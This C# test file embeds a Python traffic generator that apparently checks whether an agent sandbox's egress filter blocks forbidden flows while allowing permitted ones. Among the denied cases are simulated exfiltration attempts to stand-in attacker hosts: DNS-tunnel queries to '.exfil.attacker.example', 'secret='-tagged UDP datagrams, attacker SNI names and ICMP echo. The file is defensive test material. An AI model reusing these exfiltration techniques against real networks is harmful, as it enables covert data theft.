namespace Exeat.Lab.Tests.Chaos.Load;

/// <summary>One agent's traffic as a program: what is permitted and what is not, side by side, at a known rate, until a file appears.</summary>
/// <remarks>
/// <code>
///   steady     tcp (echo, by address) · tls (a stream, by name) · udp (datagrams, by address)       one of each in both families
///   permitted  name (TLS) · http (plain) · address (echo) · lookup (a question)                     a new flow each
///   denied     attacker, any-port (SYN) · sni, plain (on a permitted address) · datagram · quic · resolver · tunnel (a question) · echo
/// </code>
/// Each attempt is a line when it ends: <c>A;canary;began;ended;kind;family;destination;port;source port;result</c> (wall clock, seconds);
/// each steady flow one when it ends: <c>S;kind;family;how;sent;heard;last heard;longest silence in ms</c>.
/// </remarks>
internal static class TrafficScript
{
    public const string Text = """
        import os, random, socket, ssl, struct, sys, threading, time
        out, stop, pace = sys.argv[1], sys.argv[2], float(sys.argv[3])
        CORE = {4: '203.0.113.10', 6: '2001:db8:f::10'}; ATTACKER = {4: '203.0.113.66', 6: '2001:db8:f::66'}
        DATA = {4: '10.20.0.5', 6: 'fd00:20::5'}; RESOLVER = {4: '198.51.100.53', 6: '2001:db8:53::53'}; PUBLIC = {4: '198.51.100.8', 6: '2001:db8:8::8'}
        AF = {4: socket.AF_INET, 6: socket.AF_INET6}
        lock, file, running, count = threading.Lock(), open(out, 'a', buffering=1), True, [0]
        tls = ssl._create_unverified_context(); threading.stack_size(256 * 1024)
        def say(*words):
            with lock: file.write(';'.join(str(w) for w in words) + '\n')
        def canary(): return 'canary-' + os.urandom(6).hex()
        def question(name, kind):
            return struct.pack('>HHHHHH', random.getrandbits(16), 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', kind, 1)
        def tcp(f, to, port):
            s = socket.socket(AF[f]); s.settimeout(4); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.bind(('0.0.0.0' if f == 4 else '::', 0)); return s
        def got(s):
            if not s.recv(64): raise ConnectionResetError()
        def name(f, mark, s, to, port): s.connect((to, port)); t = tls.wrap_socket(s, server_hostname='openclaw.ai'); t.sendall(f'GET / HTTP/1.1\r\nHost: openclaw.ai\r\nX-Canary: {mark}\r\nConnection: close\r\n\r\n'.encode()); got(t)
        def http(f, mark, s, to, port): s.connect((to, port)); s.sendall(f'GET / HTTP/1.1\r\nHost: openclaw.ai\r\nX-Canary: {mark}\r\nConnection: close\r\n\r\n'.encode()); got(s)
        def address(f, mark, s, to, port): s.connect((to, port)); s.sendall(mark.encode()); got(s)
        def sni(f, mark, s, to, port): s.connect((to, port)); tls.wrap_socket(s, server_hostname=mark + '.attacker.example'); got(s)
        def plain(f, mark, s, to, port): s.connect((to, port)); s.sendall(f'GET /canary/{mark} HTTP/1.0\r\n\r\n'.encode()); got(s)
        def send(data):
            def run(f, mark, s, to, port): s.connect((to, port)); s.send(data(mark)); s.settimeout(1); got(s)
            return run
        def lookup(f, mark, s, to, port):
            s.connect((to, port)); s.send(question('openclaw.ai', 1 if f == 4 else 28)); s.settimeout(3); answer = s.recv(512)
            if answer[3] & 15: raise ConnectionRefusedError()
        def tunnel(f, mark, s, to, port):
            s.connect((to, port)); s.send(question(mark + '.exfil.attacker.example', 1 if f == 4 else 28)); s.settimeout(3); answer = s.recv(512)
            if answer[3] & 15: raise ConnectionRefusedError()
        def echo(f, mark, s, to, port):
            body = struct.pack('>HH', os.getpid() & 65535, 1) + mark.encode() + b'\0'
            head = struct.pack('>BBH', 8 if f == 4 else 128, 0, 0)
            if f == 4:
                total = sum(struct.unpack('>%dH' % ((len(head) + len(body)) // 2), head + body)); total = (total >> 16) + (total & 65535); total += total >> 16
                head = struct.pack('>BBH', 8, 0, ~total & 65535)
            s.sendto(head + body, (to, 0)); s.settimeout(0.5)
        def long_header(mark): return bytes([0xc3, 0, 0, 0, 1, 8]) + os.urandom(8) + bytes([0, 0, 0x44, 0x90]) + mark.encode() + bytes(1200 - 37)
        KINDS = [ # name, rate, type, destination, port, how
            ('name', 2, 'tcp', CORE, 443, name), ('http', 1, 'tcp', CORE, 80, http), ('address', 3, 'tcp', DATA, 5432, address), ('lookup', 0.5, 'udp', RESOLVER, 53, lookup),
            ('attacker', 3, 'tcp', ATTACKER, 443, name), ('any-port', 2, 'tcp', ATTACKER, 0, address), ('sni', 2, 'tcp', CORE, 443, sni), ('plain', 1, 'tcp', CORE, 443, plain),
            ('datagram', 3, 'udp', ATTACKER, 6667, send(lambda m: b'secret=' + m.encode())), ('quic', 1, 'udp', CORE, 443, send(long_header)),
            ('resolver', 1, 'udp', PUBLIC, 53, send(lambda m: question(m + '.exfil.attacker.example', 16))), ('tunnel', 1, 'udp', RESOLVER, 53, tunnel), ('echo', 1, 'icmp', ATTACKER, 0, echo)]
        def attempt(kind, layer, f, to, port, how):
            mark, began, result, source = canary(), time.time(), 'ok', 0
            if kind == 'any-port': port = 20000 + random.randrange(16)
            try:
                if layer == 'icmp': s = socket.socket(AF[f], socket.SOCK_RAW, 1 if f == 4 else 58)
                elif layer == 'udp': s = socket.socket(AF[f], socket.SOCK_DGRAM); s.bind(('0.0.0.0' if f == 4 else '::', 0))
                else: s = tcp(f, to, port)
                if layer != 'icmp': source = s.getsockname()[1]
                try: how(f, mark, s, to, port)
                finally: s.close()
            except (ConnectionRefusedError, ConnectionResetError, BrokenPipeError, PermissionError, ssl.SSLEOFError, ssl.SSLZeroReturnError): result = 'refused'
            except (socket.timeout, TimeoutError): result = 'silent'
            except OSError as e: result = 'refused' if e.errno in (13, 1, 113, 101) else 'error-' + type(e).__name__ + '-' + str(e.errno)
            say('A', mark, '%.4f' % began, '%.4f' % time.time(), kind, f, to, port, source, result)
            with lock: count[0] -= 1
        def repeat(kind, rate, layer, to, port, how, f):
            due = time.monotonic() + random.random() / (rate * pace)
            while running:
                wait = due - time.monotonic()
                if wait > 0: time.sleep(min(wait, 0.1)); continue
                due = max(due + 1 / (rate * pace), time.monotonic() - 1)
                with lock:
                    if count[0] >= 300: continue
                    count[0] += 1
                threading.Thread(target=attempt, args=(kind, layer, f, to[f], port, how), daemon=True).start()
        def steady(kind, f):
            sent = heard = 0; last = time.time(); longest = 0.0; how = 'stopped'; s = None
            try:
                if kind == 'udp': s = socket.socket(AF[f], socket.SOCK_DGRAM); s.connect((DATA[f], 5432)); s.setblocking(False)
                else:
                    s = tcp(f, None, 0); s.settimeout(10)
                    if kind == 'tcp': s.connect((DATA[f], 5432))
                    else:
                        s.connect((CORE[f], 443)); s = tls.wrap_socket(s, server_hostname='openclaw.ai')
                        s.sendall(b'GET /stream/1000000 HTTP/1.1\r\nHost: openclaw.ai\r\n\r\n')
                    s.settimeout(0.05)
                last = time.time()
                while running:
                    try:
                        if kind != 'tls': sent += s.send(b'x' * 100)
                        if kind == 'udp': time.sleep(0.05)
                        else:
                            got = len(s.recv(65536))
                            if not got: how = 'closed'; break
                            heard += got; now = time.time(); longest = max(longest, now - last); last = now
                            if kind == 'tcp': time.sleep(0.03)
                    except (socket.timeout, TimeoutError, BlockingIOError): pass
                    except (ConnectionRefusedError, PermissionError):
                        if kind != 'udp': raise
                    except OSError as e:
                        # A datagram that finds its link down is lost, no more.
                        if kind != 'udp': raise
                        time.sleep(0.05)
            except ConnectionResetError: how = 'reset'
            except OSError as e: how = 'error-' + type(e).__name__ + '-' + str(e.errno)
            say('S', kind, f, how, sent, heard, '%.4f' % last, round(longest * 1000))
        for f in (4, 6):
            for i in range(3):
                try: socket.getaddrinfo('openclaw.ai', 443, AF[f]); break
                except OSError: time.sleep(0.2)
        long = [threading.Thread(target=steady, args=(k, f)) for k in ('tcp', 'tls', 'udp') for f in (4, 6)]
        many = [threading.Thread(target=repeat, args=(*k, f)) for k in KINDS for f in (4, 6)]
        for t in long + many: t.start()
        while not os.path.exists(stop): time.sleep(0.05)
        running = False
        for t in long + many: t.join()
        end = time.monotonic() + 5
        while count[0] > 0 and time.monotonic() < end: time.sleep(0.05)
        file.close()
        """;
}
